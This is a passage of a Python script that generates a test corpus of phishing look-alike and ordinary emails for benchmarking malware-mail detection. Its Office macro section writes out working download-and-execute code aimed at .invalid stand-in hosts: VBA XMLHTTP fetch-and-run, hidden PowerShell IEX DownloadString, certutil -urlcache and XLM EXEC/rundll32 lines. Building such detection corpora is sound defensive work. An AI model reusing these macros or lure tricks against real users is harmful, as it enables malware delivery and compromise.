#!/usr/bin/env python3
"""gen-corpus.py [-s SEED] OUTDIR - the heuristics corpus: campaign look-alikes and
ordinary mail, for bench/heuristics.sh and tests/corpus.sh.

Writes OUTDIR/cNNN-CATEGORY.eml (campaign look-alikes: Avaddon lures and NEGASTEAL /
Agent Tesla waves and their variants, after ../../../shared/campaigns.md), OUTDIR/
hNNN-CATEGORY.eml (ordinary mail: business mail in many languages and scripts,
newsletters, invoices with real PDFs, photos, invitations, RTF, ISO, legitimate
macros and scripts) and OUTDIR/MANIFEST, one line per message:
    FILE <TAB> campaign|clean <TAB> CATEGORY <TAB> TRICK
The same SEED (default 20200608) gives the same bytes; OUTDIR's old *.eml and
MANIFEST are replaced.

Everything is inert: executables are stubs (magic bytes and zeros), scripts are
comments, smuggled payloads decode to a stub, macros only name what a downloader
would call; every message carries INERT-TEST-FIXTURE (header X-Corpus) and names
only example.com and .invalid hosts.  Office documents with macros come from
tests/samples/mkoffice.py when it is there; without it those cases are left out
(stderr says so).  Python 3 standard library only.
"""

import argparse
import base64
import datetime
import email.policy
import email.utils
import os
import random
import sys
from email.message import EmailMessage

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(1, os.path.join(HERE, "..", "samples"))
import formats as F  # noqa: E402
from payloads import (equation_hex, hta_downloader, js_downloader, rtf_equation,  # noqa: E402
                      smuggling_html, vbs_downloader)
from texts import (AVADDON_SUBJECTS, AVADDON_SUBJECTS_INTL, BOT, FILE_WORD, LURE_KIND,  # noqa: E402
                   LURES, NEWSLETTER, PLAIN, RCPT, SENDERS, SMILEYS, WEBDEV_JS, ics)

try:
    import mkoffice  # noqa: E402
except ImportError:
    mkoffice = None

MARK = F.MARK
POLICY = email.policy.default.clone(linesep="\n", max_line_length=78)
T0 = datetime.datetime(2020, 6, 8, 7, 15, tzinfo=datetime.timezone.utc)

MIME = {"zip": "application/zip", "rar": "application/x-rar-compressed",
        "7z": "application/x-7z-compressed", "gz": "application/gzip",
        "tgz": "application/gzip", "lzh": "application/x-lzh-compressed",
        "iso": "application/x-iso9660-image", "img": "application/octet-stream",
        "ace": "application/x-ace-compressed", "exe": "application/x-msdownload",
        "pdf": "application/pdf", "jpg": "image/jpeg", "png": "image/png",
        "html": "text/html", "htm": "text/html", "rtf": "application/rtf",
        "doc": "application/msword", "js": "application/javascript",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "docm": "application/vnd.ms-word.document.macroEnabled.12",
        "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12",
        "xlam": "application/vnd.ms-excel.addin.macroEnabled.12",
        "pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.12",
        "ppam": "application/vnd.ms-powerpoint.addin.macroEnabled.12",
        "xls": "application/vnd.ms-excel", "ics": "text/calendar", "csv": "text/csv",
        "txt": "text/plain", "dat": "application/octet-stream", "svg": "image/svg+xml"}


def mime_of(name):
    ext = name.rsplit(".", 1)[-1].lower().strip(". ")
    return MIME.get(ext, "application/octet-stream")


class Corpus:
    """The messages and their MANIFEST lines, numbered in the order they are made."""

    def __init__(self, seed):
        self.seed = seed
        self.rng = random.Random(seed)
        self.msgs = []      # (file, bytes)
        self.manifest = []  # (file, class, category, trick)

    def digits(self, n):
        return "".join(str(self.rng.randrange(10)) for _ in range(n))

    def mail(self, subject, text, frm, to, html=None, atts=(), cc=None, reply=None):
        """An RFC 5322 message; ATTS are (name, bytes[, type]) or an EmailMessage."""
        m = EmailMessage(policy=POLICY)
        n = len(self.msgs)
        m["From"] = frm
        m["To"] = to
        if cc:
            m["Cc"] = cc
        m["Subject"] = subject
        m["Date"] = email.utils.format_datetime(T0 + datetime.timedelta(minutes=37 * n))
        m["Message-ID"] = "<%d.%d.corpus@mail.example.com>" % (self.seed, n)
        if reply:
            m["In-Reply-To"] = reply
        m["X-Corpus"] = MARK
        m.set_content(text)
        if html is not None:
            m.add_alternative(html, subtype="html")
        for a in atts:
            if isinstance(a, EmailMessage):
                m.add_attachment(a)
                continue
            name, data = a[0], a[1]
            ctype = a[2] if len(a) > 2 else mime_of(name)
            main, sub = ctype.split("/")
            if main == "text":
                m.add_attachment(data.decode("utf-8") if isinstance(data, bytes) else data,
                                 subtype=sub, filename=name)
            else:
                m.add_attachment(data, maintype=main, subtype=sub, filename=name)
        i = 0
        for part in m.walk():
            if part is not m:
                del part["MIME-Version"]
            if part.is_multipart():
                part.set_boundary("=_corpus_%d_%d_%d" % (self.seed, n, i))
                i += 1
        return m

    def add(self, cls, category, trick, m):
        f = "%s%03d-%s.eml" % ("c" if cls == "campaign" else "h", len(self.msgs) + 1, category)
        self.msgs.append((f, m.as_bytes(policy=POLICY)))
        self.manifest.append((f, cls, category, trick))

    def write(self, out):
        os.makedirs(out, exist_ok=True)
        for f in os.listdir(out):
            if f.endswith(".eml") or f == "MANIFEST":
                os.remove(os.path.join(out, f))
        for f, b in self.msgs:
            with open(os.path.join(out, f), "wb") as fh:
                fh.write(b)
        with open(os.path.join(out, "MANIFEST"), "w", encoding="utf-8") as fh:
            fh.write("# file\tclass\tcategory\ttrick\n")
            for row in self.manifest:
                fh.write("\t".join(row) + "\n")


# ---------------------------------------------------------------- campaign look-alikes


def avaddon(c):
    rng = c.rng
    bot = lambda: rng.choice(BOT) % rng.randrange(100, 999)  # noqa: E731
    rcpt = "<user%d@example.com>" % rng.randrange(100)

    # wave 1 and its close variants: IMG<6 digits>.<image>.<script> in a zip
    shapes = [("IMG%s.jpg.js", "plain", "exact wave 1 name"),
              ("IMG%s.jpeg.js", "split", "jpeg ext, split strings"),
              ("IMG%s.JPG.js", "charcode", "upper-case JPG, fromCharCode"),
              ("PIC%s.png.js", "certutil", "PIC prefix, png, certutil"),
              ("DSC%s.jpg.jse", "plain", "camera DSC prefix, jse"),
              ("IMG_%s.jpg.js", "split", "underscore name"),
              ("photo_%s.jpg.js", "charcode", "photo_ prefix"),
              ("IMG%s.jpg.vbs", None, "vbs instead of js"),
              ("IMG%s.jpg.wsf", None, "wsf instead of js"),
              ("IMG%s.jpg.hta", None, "hta instead of js")]
    for i, (shape, style, trick) in enumerate(shapes):
        name = shape % c.digits(6)
        if name.endswith(".vbs"):
            data = vbs_downloader(rng)
        elif name.endswith(".hta"):
            data = hta_downloader()
        elif name.endswith(".wsf"):
            data = ("<job id=\"x\"><!-- %s --><script language=\"JScript\">\n" % MARK).encode() + \
                js_downloader(rng, "plain") + b"</script></job>\n"
        else:
            data = js_downloader(rng, style)
        subj = AVADDON_SUBJECTS[i % len(AVADDON_SUBJECTS)]
        z = F.zip_archive([(name, data)])
        c.add("campaign", "avaddon-photo-zip", trick + ", subject '%s'" % subj,
              c.mail(subj, SMILEYS[i % len(SMILEYS)], bot(), rcpt, atts=[(name + ".zip", z)]))

    # other languages and other words for the same lure
    for i, subj in enumerate(AVADDON_SUBJECTS_INTL[:6]):
        name = "IMG%s.jpg.js" % c.digits(6)
        body = rng.choice(SMILEYS) if i % 2 == 0 else rng.choice(["Lol", "\U0001F602\U0001F602", "xD"])
        c.add("campaign", "avaddon-photo-lang", "lure in another language: " + subj,
              c.mail(subj, body, bot(), rcpt,
                     atts=[(name + ".zip", F.zip_archive([(name, js_downloader(rng, "split"))]))]))

    # other containers and nesting
    name = "IMG%s.jpg.js" % c.digits(6)
    inner = F.zip_archive([(name, js_downloader(rng, "plain"))])
    c.add("campaign", "avaddon-nested", "zip in a zip",
          c.mail("Is this you?", ";)", bot(), rcpt, atts=[("IMG%s.zip" % c.digits(6),
                                                          F.zip_archive([(name + ".zip", inner)]))]))
    name = "IMG%s.jpg.js" % c.digits(6)
    c.add("campaign", "avaddon-nested", "gzip keeping the script name in FNAME, named photo.gz",
          c.mail("Photo just for you", ":)", bot(), rcpt,
                 atts=[("IMG%s.gz" % c.digits(6), F.gzip_file(name, js_downloader(rng, "charcode")))]))
    name = "IMG%s.jpg.js" % c.digits(6)
    c.add("campaign", "avaddon-nested", "7z holding the script",
          c.mail("I like this photo", "\U0001F609", bot(), rcpt,
                 atts=[(name + ".7z", F.sevenzip([(name, js_downloader(rng, "plain"))]))]))
    name = "IMG%s.jpg.js" % c.digits(6)
    c.add("campaign", "avaddon-nested", "rar holding the script",
          c.mail("You look good here", ";-)", bot(), rcpt,
                 atts=[(name + ".rar", F.rar4([(name, js_downloader(rng, "certutil"))]))]))
    name = "IMG%s.jpg.js" % c.digits(6)
    c.add("campaign", "avaddon-direct", "script attached without an archive",
          c.mail("My favourite photo", ";)", bot(), rcpt,
                 atts=[(name, js_downloader(rng, "split"), "application/octet-stream")]))
    name = "IMG%s\u202egpj.js" % c.digits(6)
    c.add("campaign", "avaddon-rlo", "RIGHT-TO-LEFT OVERRIDE member name (shows as ...sj.jpg)",
          c.mail("Is this your photo?", ";)", bot(), rcpt,
                 atts=[("IMG%s.zip" % c.digits(6), F.zip_archive([(name, js_downloader(rng, "plain"))]))]))
    c.add("campaign", "avaddon-emoticon", "2019 emoticon wave IMG<n>_2018-JPG.zip",
          c.mail(";-)", ":)", bot(), rcpt,
                 atts=[("IMG%s_2018-JPG.zip" % c.digits(4),
                        F.zip_archive([("IMG%s_2018-JPG.js" % c.digits(4), js_downloader(rng, "plain"))]))]))


def negasteal_archives(c):
    rng = c.rng
    langs = list(LURES)
    cases = [  # (kind, container, member shape, trick)
        ("po", "zip", "{w}_{n}.exe", "zip holding a .NET stub"),
        ("invoice", "rar", "{w}_{n}.exe", "rar holding a .NET stub"),
        ("quote", "7z", "{w}_{n}.exe", "7z (copy coder) holding a .NET stub"),
        ("payment", "gz", "{w}_{n}.exe", "gzip whose FNAME is the .exe"),
        ("shipping", "lzh", "{w}_{n}.exe", "LZH (-lh0-) holding a .NET stub"),
        ("shipping", "iso", "{W}_{n}.EXE", "ISO 9660 image holding a .NET stub"),
        ("invoice", "img", "{W}_{n}.EXE", "ISO image named .img"),
        ("shipping", "ace", "{w}_{n}.exe", "ACE archive (nothing opens it)"),
        ("po", "tgz", "{w}_{n}.scr", "tar.gz holding a .scr"),
        ("payment", "zip", "{w}_{n}.pdf.exe", "double extension inside a zip"),
        ("invoice", "zip", "{w}_{n}.xlsx      .exe", "double extension padded with spaces"),
        ("quote", "zip", "{w}#{n}.com", "RFQ#digits.com"),
        ("po", "rar", "{w}_{n}.pif", "pif in rar"),
        ("shipping", "zip", "{w}_{n}.DAT", "PE stub named .DAT"),
        ("payment", "iso", "{W}_{n}.PDF.EXE", "double extension in an ISO"),
        ("invoice", "zip", "{w}_{n}\u202efdp.exe", "RLO in the member name (shows ...exe.pdf)"),
        ("po", "lzh", "{w}_{n}.bat", "batch file in LZH"),
        ("quote", "gz", "{w}_{n}.pdf.scr", "gzip FNAME with a double extension"),
        ("shipping", "zip", "{w}_{n}.lnk", "shortcut in a zip"),
        ("po", "7z", "{w}_{n}.vbs", "vbs downloader in 7z"),
    ]
    for i, (kind, cont, shape, trick) in enumerate(cases):
        lang = langs[i % len(langs)]
        subjects, body, _, sig = LURES[lang]
        n = c.digits(rng.choice([5, 6, 7]))
        w = rng.choice(FILE_WORD[kind])
        member = shape.format(w=w, W=w.upper(), n=n)
        if member.endswith(".lnk"):
            data = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56 + MARK.encode()
        elif member.endswith((".vbs", ".bat")):
            data = vbs_downloader(rng)
        else:
            data = F.pe_stub(dotnet=True)
        base = "%s_%s" % (w, n)
        if cont == "zip":
            att = F.zip_archive([(member, data)])
        elif cont == "rar":
            att = F.rar4([(member, data)])
        elif cont == "7z":
            att = F.sevenzip([(member, data)])
        elif cont == "gz":
            att = F.gzip_file(member, data)
        elif cont == "lzh":
            att = F.lzh([(member, data)])
        elif cont in ("iso", "img"):
            att = F.iso9660([(member, data)])
        elif cont == "ace":
            att = F.ace_stub(member)
        elif cont == "tgz":
            att = F.tar_gz([(member, data)])
        subj = subjects[LURE_KIND[kind]].format(n=n)
        text = body.format(n=n) + "\n" + sig + "\n"
        c.add("campaign", "negasteal-archive-exe" if cont not in ("iso", "img") else "negasteal-disk-image",
              "%s lure (%s): %s" % (kind, lang, trick),
              c.mail(subj, text, rng.choice(SENDERS), RCPT, atts=[("%s.%s" % (base, cont), att)]))

    # encrypted archives, the password in the body
    for i, lang in enumerate(["en", "de", "fr", "es", "ja", "ru", "it", "zh"]):
        subjects, body, pw_word, sig = LURES[lang]
        kind = ["invoice", "payment", "po", "shipping"][i % 4]
        n = c.digits(6)
        pw = rng.choice(["Inv", "Doc", "PO", "2020"]) + c.digits(4)
        member = "%s_%s.exe" % (rng.choice(FILE_WORD[kind]), n)
        sep = "：" if lang in ("ja", "zh") else ": "
        text = body.format(n=n) + "\n%s%s%s\n\n%s\n" % (pw_word, sep, pw, sig)
        if i < 5:
            att = ("%s_%s.zip" % (FILE_WORD[kind][0], n),
                   F.zip_archive([(member, F.pe_stub())], password=pw, rng=rng))
            cat, trick = "negasteal-encrypted-zip", "ZipCrypto zip, password in the body (%s)" % lang
        else:
            att = ("%s_%s.7z" % (FILE_WORD[kind][0], n),
                   F.sevenzip([(member, F.pe_stub())], encrypted=True, encrypted_header=(i % 2 == 1),
                              rng=rng))
            cat = "negasteal-encrypted-7z"
            trick = "7zAES%s, password in the body (%s)" % (" with encrypted header" if i % 2 else
                                                            ", names listed", lang)
        c.add("campaign", cat, trick,
              c.mail(subjects[LURE_KIND[kind]].format(n=n), text, rng.choice(SENDERS), RCPT, atts=[att]))

    # executables attached directly, names that lie
    for i, (shape, trick) in enumerate([("{w}_{n}.pdf.exe", "double extension"),
                                        ("{w}_{n}.pdf\u202eexe.scr", "RLO (shows ...rcs.exe.pdf)"),
                                        ("{w}_{n}.xlsx.scr", "double extension scr"),
                                        ("{w}_{n}.DAT", "PE stub named .DAT"),
                                        ("{w}_{n}.jpg", "PE stub named .jpg")]):
        lang = ["en", "it", "es", "it", "pt"][i]
        kind = ["payment", "invoice", "po", "po", "shipping"][i]
        subjects, body, _, sig = LURES[lang]
        n = c.digits(5)
        name = shape.format(w=rng.choice(FILE_WORD[kind]), n=n)
        ctype = "application/pdf" if name.endswith(".exe") else None
        att = (name, F.pe_stub()) + ((ctype,) if ctype else ())
        c.add("campaign", "negasteal-exe-named", "%s (%s)" % (trick, lang),
              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
                     rng.choice(SENDERS), RCPT, atts=[att]))


def negasteal_documents(c):
    rng = c.rng
    styles = [("tidy", "en", "quote"), ("newlines", "de", "po"), ("spaces-upper", "fr", "invoice"),
              ("control-words", "es", "quote"), ("late", "it", "po"), ("no-rtf1", "tr", "payment"),
              ("newlines", "ja", "quote"), ("control-words", "ru", "invoice")]
    for i, (style, lang, kind) in enumerate(styles):
        subjects, body, _, sig = LURES[lang]
        n = c.digits(5)
        doc = rtf_equation(rng, style, [subjects[LURE_KIND[kind]].format(n=n), "Ref. %s" % n])
        name = "%s_%s.%s" % (rng.choice(FILE_WORD[kind]), n, "doc" if i % 2 else "rtf")
        atts = [(name, doc)]
        trick = "RTF Equation Editor object, hex %s, named .%s" % (style, name.rsplit(".", 1)[1])
        if i == 7:
            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, doc)]))]
            trick += ", in a zip"
        c.add("campaign", "negasteal-rtf-equation", trick + " (%s)" % lang,
              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
                     rng.choice(SENDERS), RCPT, atts=atts))

    idioms = ["atob-blob", "mssave", "uint8-from", "fetch-data", "reversed", "atob-blob"]
    for i, idiom in enumerate(idioms):
        lang = ["en", "de", "fr", "es", "pl", "nl"][i]
        kind = ["payment", "invoice", "payment", "shipping", "invoice", "po"][i]
        subjects, body, _, sig = LURES[lang]
        n = c.digits(6)
        page = smuggling_html(rng, idiom)
        name = "%s_%s.%s" % (rng.choice(FILE_WORD[kind]), n, "htm" if i % 2 else "html")
        atts = [(name, page, "text/html")]
        trick = "HTML smuggling, idiom %s" % idiom
        if i >= 4:
            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, page)]))]
            trick += ", page inside a zip"
        c.add("campaign", "negasteal-html-smuggling", trick + " (%s)" % lang,
              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
                     rng.choice(SENDERS), RCPT, atts=atts))


def remote_template(c):
    """Word documents that fetch their active part when opened: a remote template,
    a linked OLE object (the external-object trick, CVE-2017-0199 style)."""
    rng = c.rng
    for i, (lang, kind, how) in enumerate([("en", "invoice", "template"), ("de", "po", "template"),
                                           ("es", "payment", "ole"), ("it", "quote", "template")]):
        subjects, body, _, sig = LURES[lang]
        n = c.digits(6)
        url = "http://%s.example.invalid/%s" % (rng.choice(["office", "templates", "docs"]),
                                                rng.choice(["t.dotm", "doc.rtf", "Normal%s.dotm" % n]))
        if how == "template":
            doc = F.docx([subjects[LURE_KIND[kind]].format(n=n)], template=url)
        else:
            doc = F.docx([subjects[LURE_KIND[kind]].format(n=n)], ole_link=url)
        name = "%s_%s.docx" % (rng.choice(FILE_WORD[kind]), n)
        atts = [(name, doc)]
        trick = "docx with %s fetched from %s" % ("an external template" if how == "template"
                                                   else "a linked OLE object", url)
        if i == 3:
            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, doc)]))]
            trick += ", in a zip"
        c.add("campaign", "negasteal-remote-template", trick + " (%s)" % lang,
              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
                     rng.choice(SENDERS), RCPT, atts=atts))


def office_campaign(c):
    """Macro documents: auto-open + fetch + execute, XLM macro sheets, add-ins."""
    if mkoffice is None:
        sys.stderr.write("gen-corpus: tests/samples/mkoffice.py not found; "
                         "the Office macro cases are left out\n")
        return
    rng = c.rng
    url = "http://cdn.example.invalid/%s.exe"
    vba = [
        ("AutoOpen", "Sub AutoOpen()\n  ' %s\n  Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\n"
         "  x.Open \"GET\", \"%s\", False: x.Send\n  Dim s: Set s = CreateObject(\"ADODB.Stream\")\n"
         "  s.Open: s.Type = 1: s.Write x.responseBody\n  s.SaveToFile Environ(\"TEMP\") & \"\\p.exe\", 2\n"
         "  CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\p.exe\"\nEnd Sub\n"),
        ("Workbook_Open", "Private Sub Workbook_Open()\n  ' %s\n  Shell \"powershell -w hidden -c "
         "IEX (New-Object Net.WebClient).DownloadString('%s')\", vbHide\nEnd Sub\n"),
        ("Document_Open", "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" "
         "(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, "
         "ByVal e As LongPtr) As Long\nSub Document_Open()\n  ' %s\n  URLDownloadToFileA 0, \"%s\", "
         "Environ(\"TEMP\") & \"\\u.exe\", 0, 0\n  Shell Environ(\"TEMP\") & \"\\u.exe\"\nEnd Sub\n"),
        ("Auto_Open", "Sub Auto_Open()\n  ' %s\n  Dim c: c = \"cmd /c certutil -urlcache -f %s %%TEMP%%\\c.exe "
         "&& %%TEMP%%\\c.exe\"\n  CreateObject(\"WScript.Shell\").Run c, 0\nEnd Sub\n"),
    ]
    kinds = [("docm", 0, "invoice", "en"), ("xlsm", 1, "po", "de"), ("docm", 2, "payment", "fr"),
             ("xlam", 3, "quote", "es"), ("ppam", 3, "po", "it"), ("pptm", 0, "shipping", "pt"),
             ("doc", 2, "invoice", "ru"), ("xlsm", 3, "payment", "tr"), ("doc", 0, "quote", "pl")]
    for kind, v, lure, lang in kinds:
        subjects, body, _, sig = LURES[lang]
        n = c.digits(6)
        entry, src = vba[v]
        src = (src % (MARK, url % n)).replace("\n", "\r\n")
        mods = {"ThisDocument" if kind in ("docm", "doc") else
                "ThisWorkbook" if kind == "xlsm" and v == 1 else "Module1": src}
        if kind == "doc":
            data = mkoffice.ole_doc_with_vba(mods)
        else:
            data = mkoffice.ooxml_with_vba(kind, mods)
        name = "%s_%s.%s" % (rng.choice(FILE_WORD[lure]), n, kind)
        atts = [(name, data)]
        trick = "%s %s + fetch + execute (%s)" % (kind, entry, lang)
        if lang in ("pt", "pl"):
            atts = [("%s_%s.zip" % (FILE_WORD[lure][0], n), F.zip_archive([(name, data)]))]
            trick += ", in a zip"
        c.add("campaign", "negasteal-addin" if kind in ("xlam", "ppam") else "negasteal-office-macro",
              trick, c.mail(subjects[LURE_KIND[lure]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
                            rng.choice(SENDERS), RCPT, atts=atts))
    xlm = [
        ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"%s","c:\\users\\public\\a.dll",0,0)',
         'EXEC("rundll32 c:\\users\\public\\a.dll,DllRegisterServer")', "HALT()"],
        ['REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Dl",1,9)',
         'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"%s","c:\\programdata\\b.exe",0,0)',
         'EXEC("c:\\programdata\\b.exe")', "HALT()"],
        ['FORMULA.FILL("=EXEC(""powershell -c iwr %s -o b.exe"")","R2C1")', 'RUN("R2C1")', "HALT()"],
    ]
    for i, (subj, lang, packing) in enumerate([
            ("Notifica ufficiale - Ispettorato del Lavoro", "it", "zip"),
            ("Avviso di violazione n. {n}", "it", "xls"),
            ("Fattura {n} - sollecito", "it", "xlsm"),
            ("Offizielle Mitteilung {n}", "de", "xls"),
            ("Official notice {n} - penalty", "en", "zip-xlsm")]):
        n = c.digits(6)
        f = [x.replace("%s", url % n) for x in xlm[i % 3]]
        if packing.endswith("xlsm"):
            data, ext = mkoffice.xlsm_with_xlm(f), "xlsm"
        else:
            data, ext = mkoffice.xls_with_xlm(f), "xls"
        xname = "%s_%s.%s" % ({"it": "Notifica", "de": "Mitteilung"}.get(lang, "Notice"), n, ext)
        atts = [(xname, data)] if packing in ("xls", "xlsm") else [
            ("Official notification %s.zip" % n, F.zip_archive([(xname, data)]))]
        text = {"it": "Gentile contribuente,\n\nin allegato la notifica. Si prega di prendere visione "
                      "entro 48 ore per evitare sanzioni.\n",
                "de": "Sehr geehrte Damen und Herren,\n\nanbei die Mitteilung.\n",
                "en": "Dear taxpayer,\n\nplease review the attached notice within 48 hours.\n"}[lang]
        c.add("campaign", "avaddon-xlm", "Excel 4.0 macro sheet (%s) in %s, %s (%s)"
              % (f[0].split("(")[0], ext, "in a zip" if packing.startswith("zip") else "attached", lang),
              c.mail(subj.format(n=n), text, rng.choice(BOT) % rng.randrange(100, 999), RCPT, atts=atts))
    n = c.digits(5)
    rtf = mkoffice.rtf_with_object("Equation.3", obfuscate=True, pad=6000)
    c.add("campaign", "negasteal-rtf-equation",
          "RTF Equation Editor object, hex broken and past 6 KB of text, named .doc (en)",
          c.mail("Quotation request %s" % n, LURES["en"][1].format(n=n), rng.choice(SENDERS), RCPT,
                 atts=[("Quotation_%s.doc" % n, rtf)]))


# ---------------------------------------------------------------- ordinary mail


def clean(c):
    rng = c.rng
    team = "Team <team@example.com>"
    for lang, subj, text in PLAIN:
        c.add("clean", "plain-business", "plain text business mail (%s)" % lang,
              c.mail(subj, text, rng.choice(SENDERS), team))
    # HTML business mail (alternative)
    for lang, subj, text in PLAIN[:12:2]:
        html = "<html><body><div dir=\"auto\">%s</div></body></html>" % text.replace("\n", "<br>\n")
        c.add("clean", "html-business", "multipart/alternative business mail (%s)" % lang,
              c.mail(subj, text, rng.choice(SENDERS), team, html=html))
    for lang, subj, text in [p for p in PLAIN if p[0] in ("ar", "he")]:
        html = "<html dir=\"rtl\"><body><div dir=\"rtl\">%s</div></body></html>" % text.replace("\n", "<br>")
        c.add("clean", "html-business", "right-to-left HTML mail (%s)" % lang,
              c.mail(subj, text, rng.choice(SENDERS), team, html=html))
    # newsletters
    for i, (t, p, cta) in enumerate([
            ("Spring product update", "Three new features for your dashboard.", "Read more"),
            ("Webinar: cloud security basics", "Join us on 12 June for a one-hour session.", "Register"),
            ("Unsere Angebote im Juni", "Neue Kollektion jetzt online.", "Jetzt ansehen"),
            ("Les nouveautés du mois", "Découvrez nos nouveaux services.", "Découvrir"),
            ("Boletín de noticias", "Las novedades del trimestre.", "Leer más"),
            ("今月のお知らせ", "新サービスのご案内です。", "詳しくはこちら"),
            ("Новости компании", "Итоги квартала и планы.", "Подробнее"),
            ("Invoice reminder settings have changed", "Your billing portal now sends invoices as PDF.",
             "Open billing portal")]):
        slug = "issue-%d" % (i + 1)
        html = NEWSLETTER.format(t=t, p=p, cta=cta, slug=slug)
        c.add("clean", "newsletter", "HTML newsletter with links and an image (%d)" % (i + 1),
              c.mail(t, "%s\n\n%s\nhttps://news.example.com/%s\n" % (t, p, slug),
                     "News <news@news.example.com>", "reader@example.com", html=html))
    # invoices, orders, payment advice with real documents
    for i, lang in enumerate(["en", "de", "fr", "es", "it", "pt", "ja", "zh", "ru", "nl", "tr", "pl"]):
        subjects, body, _, sig = LURES[lang]
        kind = ["invoice", "po", "payment", "shipping", "quote"][i % 5]
        n = c.digits(6)
        subj = subjects[LURE_KIND[kind]].format(n=n)
        word = FILE_WORD[kind][i % 5]
        if i % 3 == 0:
            att = ("%s_%s.pdf" % (word, n), F.pdf(["%s %s" % (word, n), "Total: %d.%02d EUR"
                                                   % (rng.randrange(100, 9999), rng.randrange(100))]))
            trick = "real PDF"
        elif i % 3 == 1:
            att = ("%s_%s.xlsx" % (word, n), F.xlsx([["Item", "Qty", "Price"],
                                                      ["Widget A", rng.randrange(1, 50), 12.5],
                                                      ["Widget B", rng.randrange(1, 50), 7.25]]))
            trick = "xlsx without macros"
        else:
            att = ("%s_%s.docx" % (word, n), F.docx([subj, "Reference %s" % n]))
            trick = "docx without macros"
        c.add("clean", "business-document", "%s mail (%s) with a %s" % (kind, lang, trick),
              c.mail(subj, body.format(n=n).replace("Kindly confirm", "Please confirm") + "\n" + sig + "\n",
                     rng.choice(SENDERS), RCPT, atts=[att]))
    # the same business words, zip of PDFs
    for i in range(3):
        n = c.digits(6)
        z = F.zip_archive([("Invoice_%s_%d.pdf" % (n, k), F.pdf(["Invoice %s-%d" % (n, k)]))
                           for k in range(1, 3 + i)])
        c.add("clean", "business-document", "zip of %d invoice PDFs" % (2 + i),
              c.mail("Invoices for May - account %s" % n, "Hello,\n\nattached are the May invoices.\n\n"
                     "Accounts Receivable\n", "Billing <billing@supplier.example.com>", RCPT,
                     atts=[("Invoices_%s.zip" % n, z)]))
    # photos
    for i, (subj, body) in enumerate([("Look at this photo!", ";)"), ("Photos from the team event", "Hi all,\n\nhere are the photos from Friday.\n\nMia\n"),
                                      ("Is this you?", "Found this in the archive :)"), ("Urlaubsfotos", "Hallo,\n\nhier ein paar Fotos vom Urlaub.\n\nLena\n"),
                                      ("旅行の写真", "先日の旅行の写真です。\n"), ("Фото с конференции", "Коллеги, фото во вложении.\n")]):
        if i % 2 == 0:
            atts = [("IMG_%s.JPG" % c.digits(4), F.jpeg("photo %d" % i), "image/jpeg")]
            trick = "one camera JPEG"
        else:
            z = F.zip_archive([("IMG_%s.JPG" % c.digits(4), F.jpeg("p%d-%d" % (i, k)))
                               for k in range(4)] + [("DSC_%s.png" % c.digits(4), F.png(32, 24, i))],
                              deflate=False)
            atts = [("photos_%d.zip" % (i + 1), z)]
            trick = "zip of JPEG and PNG photos"
        c.add("clean", "photos", trick, c.mail(subj, body, rng.choice(SENDERS), "friend@example.com",
                                               atts=atts))
    # calendar invitations
    for i, (summary, desc) in enumerate([("Quarterly review", "Agenda: results and plans."),
                                         ("Projektbesprechung", "Tagesordnung folgt."),
                                         ("Réunion budget", "Ordre du jour joint."),
                                         ("定例会議", "議題は別途送付します。"),
                                         ("Planning session", "Please bring the invoice backlog numbers.")]):
        when = "202006%02dT09%02d00Z" % (10 + i, 0)
        cal = ics(summary, "evt%d-%s" % (i, c.digits(6)), when, desc)
        m = c.mail(summary, "You are invited: %s\n%s\n" % (summary, desc), "Anna Keller <anna.keller@example.com>",
                   team, atts=[("invite.ics", cal.encode(), "text/calendar")])
        c.add("clean", "calendar", "calendar invitation (.ics)", m)
    # RTF documents
    for i, (title, lines, pad) in enumerate([
            ("Contract draft", ["Service agreement", "Between Example Ltd and Sample GmbH"], 0),
            ("Vertrag Entwurf", ["Rahmenvertrag", "zwischen Beispiel AG und Muster GmbH"], 80),
            ("Lettre de motivation", ["Madame, Monsieur,", "Je me permets de vous adresser ma candidature."], 0),
            ("見積書", ["御見積書", "合計金額 120,000円"], 10),
            ("Minutes", ["Minutes of the board meeting", "Present: A, B, C"], 40)]):
        doc = F.rtf_text(lines, pad=pad)
        c.add("clean", "rtf-document", "RTF document without objects%s" % (" (over 4 KB)" if pad > 30 else ""),
              c.mail(title, "Hello,\n\nplease find the document attached.\n\nRegards\n",
                     rng.choice(SENDERS), team, atts=[("%s.rtf" % title.replace(" ", "_"), doc)]))
    # ISO images of documents
    for i, (vol, files) in enumerate([
            ("MANUALS", [("README.TXT", b"Product manuals, June 2020\n" + MARK.encode()),
                         ("MANUAL.PDF", F.pdf(["Operating manual", "Model X200"]))]),
            ("PHOTOS", [("IMG_0001.JPG", F.jpeg("iso1")), ("IMG_0002.JPG", F.jpeg("iso2"))]),
            ("PROJECT", [("PLAN.PDF", F.pdf(["Project plan"])), ("BUDGET.XLSX", F.xlsx([["Q1", 10]])),
                         ("NOTES.TXT", b"notes " + MARK.encode())])]):
        c.add("clean", "iso-documents", "ISO 9660 image of %s" % vol.lower(),
              c.mail("%s disc image" % vol.title(), "Hi,\n\nthe disc image you asked for is attached.\n\nPaul\n",
